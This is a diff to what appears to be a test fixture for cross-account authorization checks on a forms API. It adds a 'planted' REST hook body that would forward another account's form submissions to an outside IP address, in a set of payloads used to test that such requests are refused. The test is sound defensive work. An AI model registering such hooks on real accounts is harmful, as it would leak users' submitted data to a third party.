@@ -105,6 +105,7 @@ export const BODIES: Record<string, unknown> = {
   "patch /api/form-themes/{themeId}/common": { name: "Hijacked common theme" },
   "post /api/forms/{id}/webhooks": { title: "Planted webhook", endpoint: "https://93.184.216.34/in" },
   "patch /api/forms/{id}/webhooks/{webhookId}": { title: "Hijacked webhook" },
+  "post /api/hooks": { targetUrl: "https://93.184.216.34/in", event: "form.submitted", formId: "form" },
   // A form chain of A's form: another account's admin is told the form is unknown (400).
   "post /api/form-chains": { name: "Planted chain", items: [{ formId: "form", name: "Planted step" }] },
   "put /api/form-chains/{id}": { name: "Hijacked chain", items: [] },
@@ -179,6 +180,8 @@ export function bodyFor(key: string, ids: Ids): unknown {
   // A form chain's items name A's form.
   if (Array.isArray(body.items))
     for (const item of body.items as Array<{ formId: unknown }>) item.formId = ids.form;
+  // A REST hook names A's form.
+  if (body.formId === "form") body.formId = ids.form;
   return body;
 }
 
